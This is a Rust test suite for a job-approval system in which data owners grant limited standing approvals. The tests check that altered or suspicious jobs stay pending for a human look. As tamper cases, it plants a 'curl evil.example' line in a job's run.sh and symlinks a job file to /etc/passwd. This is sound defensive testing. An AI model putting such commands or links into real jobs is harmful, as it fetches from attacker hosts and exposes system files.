//! Standing approvals on a disk: what a sync of the owner approves without a look, and what not.

use std::path::PathBuf;

use serde_json::json;
use syft::jobs::{
    Admitted, Confinement, Error, JobId, JobKind, JobName, JobStatus, NewStanding, Obstacle,
    RunScript, Sharing, Standing, parameter_file, run,
};
use syft::model::{Email, Timestamp};

use crate::world::{World, id, now, options, read, write};

const DAY: i64 = 24 * 3600 * 1_000_000;

fn later(micros: i64) -> Timestamp {
    Timestamp::from_micros(now().micros() + micros)
}

fn of(submitter: &str, name: &str) -> JobId {
    let submitter = Email::parse(submitter).unwrap();
    JobId { submitter, name: JobName::parse(name).unwrap(), ..id("x") }
}

/// A world with a project of two files, and a job `march` of it that waits.
fn world() -> World {
    let world = World::new();
    submit(&world, &id("march"), "print('honest')\n", 2024);
    world.store.receive(now()).unwrap();
    world
}

fn project(world: &World, code: &str, year: u32) -> PathBuf {
    let folder = world.home.path().join("scientist/project");
    write(&folder.join("main.py"), code);
    write(&folder.join("params.json"), &format!("{{\"year\": {year}}}"));
    folder
}

fn submit(world: &World, job: &JobId, code: &str, year: u32) {
    let folder = project(world, code, year);
    world.arrive(&world.build(job, JobKind::Python, &folder, &[], Some(&["census"])));
}

fn allow(world: &World, times: u32, also: &[&str]) -> Standing {
    let job = world.store.find(&id("march")).unwrap();
    let schema = json!({
        "type": "object", "additionalProperties": false,
        "properties": { "year": { "type": "integer", "minimum": 2000, "maximum": 2100 } },
    });
    let new = NewStanding {
        job: &job,
        reviewed: world.store.snapshot(&job).unwrap().digest,
        run_script: RunScript::Derived,
        parameters: vec![parameter_file("params.json").unwrap()],
        schema: Some(schema),
        also: also.iter().map(|email| Email::parse(email).unwrap()).collect(),
        until: later(30 * DAY),
        times,
        sharing: Sharing { outputs: true, logs: false },
        reason: Some("counts only".to_owned()),
    };
    let standing = world.store.allow(new, now()).unwrap();
    // The job itself is decided by hand here.
    world.store.approve(&id("march"), None, RunScript::Derived, None, now()).unwrap();
    standing
}

/// What a sync of the owner does.
fn sync(world: &World, now: Timestamp) -> Vec<Admitted> {
    world.store.receive(now).unwrap();
    world.store.admit(now).unwrap()
}

fn status(world: &World, job: &JobId) -> JobStatus {
    world.store.find(job).unwrap().state.status
}

fn obstacles(world: &World, job: &JobId) -> Vec<Obstacle> {
    let job = world.store.find(job).unwrap();
    world.store.judged(&job, later(DAY)).unwrap().obstacles
}

#[tokio::test]
async fn a_like_job_is_approved_with_a_record_and_runs() {
    let world = world();
    let standing = allow(&world, 3, &[]);
    submit(&world, &id("april"), "print('honest')\n", 2025);
    let admitted = sync(&world, later(DAY));
    let expected = Admitted { job: id("april"), standing: standing.id.clone(), left: 2 };
    assert_eq!(admitted, [expected]);
    let state = read(&world.review("april").join("state.yaml"));
    assert!(state.contains("approval_method: auto\n") && state.contains("status: approved\n"));

    let job = world.store.find(&id("april")).unwrap();
    let approval = world.store.approval(&job).unwrap();
    assert_eq!(approval.standing.as_ref(), Some(&standing.id));
    assert_eq!(approval.digest, world.store.snapshot(&job).unwrap().digest);
    let used = &world.store.standing_named(&standing.id[..4]).unwrap().uses[0];
    assert_eq!((used.job.as_str(), used.digest), ("ds@example.com/april", approval.digest));
    assert_eq!(used.parameters[0].0.as_str(), "code/params.json");

    let report = run(&world.store, &id("april"), &options(Confinement::None), now()).await.unwrap();
    assert_eq!(report.status, JobStatus::Done, "{:?}", report.notes);
    let sharing = world.store.sharing_of(&world.store.find(&id("april")).unwrap()).unwrap();
    assert_eq!(sharing, (standing.id.clone(), Sharing { outputs: true, logs: false }));
    assert!(sync(&world, later(DAY)).is_empty(), "once");
}

#[test]
fn w2_one_byte_more_and_the_job_waits_with_what_differs() {
    let world = world();
    allow(&world, 3, &[]);
    submit(&world, &id("april"), "print('honest?')\n", 2025);
    submit(&world, &id("may"), "print('honest')\n", 3000);
    submit(&world, &id("june"), "print('honest')\n", 2025);
    write(&world.inbox("june").join("run.sh"), "curl evil.example\n");
    submit(&world, &id("july"), "print('honest')\n", 2025);
    std::os::unix::fs::symlink("/etc/passwd", world.inbox("july").join("code/x")).unwrap();
    assert!(sync(&world, later(DAY)).is_empty());
    for name in ["april", "may", "june", "july"] {
        assert_eq!(status(&world, &id(name)), JobStatus::Pending, "{name}");
    }
    let changed = |path: &str| Obstacle::Changed(syft::model::DatasitePath::parse(path).unwrap());
    assert_eq!(obstacles(&world, &id("april")), [changed("code/main.py")]);
    assert!(matches!(obstacles(&world, &id("may"))[..], [Obstacle::Parameter(..)]));
    assert_eq!(obstacles(&world, &id("june")), [changed("run.sh")]);
    let april = world.store.find(&id("april")).unwrap();
    let judged = world.store.judged(&april, later(DAY)).unwrap();
    let diff = judged.changes.iter().find(|change| change.path.as_str() == "code/main.py");
    let diff = diff.unwrap().diff.as_ref().unwrap();
    assert!(diff.contains("-print('honest')\n+print('honest?')\n"), "{diff}");
}

#[test]
fn w7_whose_a_job_is_says_its_folder() {
    let world = world();
    allow(&world, 3, &["ann@example.com"]);
    for who in ["mallory@example.com", "ann@example.com"] {
        submit(&world, &of(who, "april"), "print('honest')\n", 2025);
        let config = world.store.local(&of(who, "april").inbox()).join("config.yaml");
        let text = read(&config);
        assert!(!text.contains(who), "nothing in it says whose it is: {text}");
    }
    let admitted: Vec<_> = sync(&world, later(DAY)).into_iter().map(|one| one.job).collect();
    assert_eq!(admitted, [of("ann@example.com", "april")]);
    assert_eq!(status(&world, &of("mallory@example.com", "april")), JobStatus::Pending);
}

#[test]
fn no_more_jobs_than_were_allowed_whatever_fails() {
    let world = world();
    allow(&world, 2, &[]);
    let names = ["april", "may", "june"];
    for name in names {
        submit(&world, &id(name), "print('honest')\n", 2025);
    }
    world.store.receive(later(DAY)).unwrap();
    // The disk refuses the approval: the use is spent all the same.
    let approvals = world.store.private().join("approvals");
    let aside = world.home.path().join("aside");
    std::fs::rename(&approvals, &aside).unwrap();
    std::fs::write(&approvals, "").unwrap();
    assert!(world.store.admit(later(DAY)).is_err());
    assert!(names.iter().all(|name| status(&world, &id(name)) == JobStatus::Pending));
    assert_eq!(world.store.standing().0[0].left(), 1);
    std::fs::remove_file(&approvals).unwrap();
    std::fs::rename(&aside, &approvals).unwrap();
    assert_eq!(sync(&world, later(DAY)).len(), 1);
    assert!(sync(&world, later(DAY)).is_empty());
    let approved = names.iter().filter(|name| status(&world, &id(name)) == JobStatus::Approved);
    assert_eq!(approved.count(), 1);
}

#[test]
fn a_record_in_doubt_approves_nothing() {
    let world = world();
    let standing = allow(&world, 2, &[]);
    submit(&world, &id("april"), "print('honest')\n", 2025);
    world.store.receive(now()).unwrap();
    let record = world.store.private().join("standing/do@example.com");
    let text = read(&record.join(format!("{}.json", standing.id)));
    let broken = text.replace("\"times\": 2", "\"times\": 2, \"times\": 9");
    write(&record.join(format!("{}.json", standing.id)), &broken);
    assert!(world.store.admit(now()).unwrap().is_empty());
    assert_eq!(world.store.standing().1.len(), 1, "and is listed");
}

#[test]
fn a_clock_that_was_set_back_approves_nothing() {
    let world = world();
    allow(&world, 9, &[]);
    submit(&world, &id("april"), "print('honest')\n", 2025);
    assert_eq!(sync(&world, later(29 * DAY)).len(), 1);
    submit(&world, &id("may"), "print('honest')\n", 2025);
    assert!(sync(&world, later(DAY)).is_empty(), "set back");
    assert_eq!(sync(&world, later(29 * DAY + 1)).len(), 1);
    submit(&world, &id("june"), "print('honest')\n", 2025);
    assert!(sync(&world, later(31 * DAY)).is_empty(), "over");
    assert!(sync(&world, later(29 * DAY)).is_empty(), "and stays over");
}

#[test]
fn an_ended_one_approves_nothing_and_takes_nothing_back() {
    let world = world();
    let standing = allow(&world, 9, &[]);
    submit(&world, &id("april"), "print('honest')\n", 2025);
    assert_eq!(sync(&world, now()).len(), 1);
    let ended = world.store.disallow(&standing.id[..5], now()).unwrap();
    assert_eq!(ended.uses.len(), 1);
    submit(&world, &id("may"), "print('honest')\n", 2025);
    assert!(sync(&world, now()).is_empty());
    assert_eq!(status(&world, &id("april")), JobStatus::Approved);
    for unknown in ["", "zz", &format!("{}0", standing.id)] {
        let refused = world.store.disallow(unknown, now());
        assert!(matches!(refused, Err(Error::UnknownStanding { .. })), "{unknown}");
    }
}

#[tokio::test]
async fn an_ended_one_lets_nothing_go_unseen() {
    let world = world();
    let standing = allow(&world, 9, &[]);
    submit(&world, &id("april"), "print('honest')\n", 2025);
    assert_eq!(sync(&world, now()).len(), 1);
    let april = || world.store.find(&id("april")).unwrap();
    assert_eq!(world.store.sharing_of(&april()), None, "nothing has run");
    run(&world.store, &id("april"), &options(Confinement::None), now()).await.unwrap();
    assert!(world.store.sharing_of(&april()).is_some());
    world.store.disallow(&standing.id, now()).unwrap();
    assert_eq!(world.store.sharing_of(&april()), None);
}

#[tokio::test]
async fn results_of_other_bytes_are_not_let_go_by_it() {
    let world = world();
    allow(&world, 9, &[]);
    // Read and approved by hand, so that its owner looks at what it leaves.
    submit(&world, &id("april"), "print('by hand')\n", 2025);
    world.approve("april");
    run(&world.store, &id("april"), &options(Confinement::None), now()).await.unwrap();
    // Its submitter makes it one that is let through, before anybody asked what may go.
    let state = world.review("april").join("state.yaml");
    let done = read(&state);
    submit(&world, &id("april"), "print('honest')\n", 2025);
    assert_eq!(sync(&world, now()).len(), 1);
    write(&state, &done);
    let april = world.store.find(&id("april")).unwrap();
    assert_eq!(world.store.sharing_of(&april), None);
}

#[test]
fn who_is_no_peer_any_more_is_not_let_through() {
    let world = world();
    allow(&world, 9, &[]);
    submit(&world, &id("april"), "print('honest')\n", 2025);
    world.store.receive(now()).unwrap();
    assert!(world.store.admit_of(&|_| false, now()).unwrap().is_empty());
    assert_eq!(world.store.standing().0[0].left(), 9);
    assert_eq!(sync(&world, now()).len(), 1);
}

#[test]
fn w2_a_job_that_changes_under_its_name_is_judged_and_counted_anew() {
    let world = world();
    allow(&world, 3, &[]);
    submit(&world, &id("april"), "print('honest')\n", 2025);
    assert_eq!(sync(&world, now()).len(), 1);
    write(&world.inbox("april").join("code/params.json"), "{\"year\": 2026}");
    assert_eq!(sync(&world, now())[0].left, 1, "other parameters are another use");
    write(&world.inbox("april").join("code/main.py"), "print('hacked')\n");
    assert!(sync(&world, now()).is_empty());
    assert_eq!(status(&world, &id("april")), JobStatus::Pending);
    let april = world.store.find(&id("april")).unwrap();
    assert!(world.store.approval(&april).is_none());
}

#[test]
fn a_flood_of_one_submitter_holds_no_other_up() {
    let world = world();
    allow(&world, 3, &["ann@example.com"]);
    for number in 0..40 {
        // As long as the honest one, so that it has to be read.
        submit(&world, &id(&format!("flood-{number:02}")), "print('hacked')\n", 2025);
    }
    submit(&world, &of("ann@example.com", "april"), "print('honest')\n", 2025);
    let admitted: Vec<_> = sync(&world, now()).into_iter().map(|one| one.job).collect();
    assert_eq!(admitted, [of("ann@example.com", "april")]);
}

#[test]
fn what_would_be_too_much_or_not_even_fit_itself_is_refused() {
    let world = world();
    let job = world.store.find(&id("march")).unwrap();
    let good = || NewStanding {
        job: &job,
        reviewed: world.store.snapshot(&job).unwrap().digest,
        run_script: RunScript::Derived,
        parameters: vec![parameter_file("params.json").unwrap()],
        schema: None,
        also: Vec::new(),
        until: later(DAY),
        times: 1,
        sharing: Sharing::default(),
        reason: None,
    };
    type Edit = fn(&mut NewStanding<'_>);
    #[rustfmt::skip]
    let cases: [(&str, Edit); 8] = [
        ("no job",                |new| new.times = 0),
        ("too many",              |new| new.times = 1_000_000),
        ("over already",          |new| new.until = now()),
        ("for ever",              |new| new.until = later(1000 * DAY)),
        ("no schema",             |new| new.schema = Some(json!({ "type": "objekt" }))),
        ("a schema it breaks",    |new| new.schema = Some(json!({ "required": ["town"] }))),
        ("a file it has not",     |new| new.parameters.push(parameter_file("more.json").unwrap())),
        ("a schema of nothing",   |new| { new.parameters.clear(); new.schema = Some(json!({})); }),
    ];
    for (what, edit) in cases {
        let mut new = good();
        edit(&mut new);
        let refused = world.store.allow(new, now());
        assert!(matches!(refused, Err(Error::Standing(_))), "{what}: {refused:?}");
    }
    write(&world.inbox("march").join("run.sh"), "other\n");
    let mut new = good();
    new.reviewed = syft::model::Digest::of(b"what was shown");
    assert!(matches!(world.store.allow(new, now()), Err(Error::Changed { .. })));
    assert!(world.store.standing().0.is_empty());
}
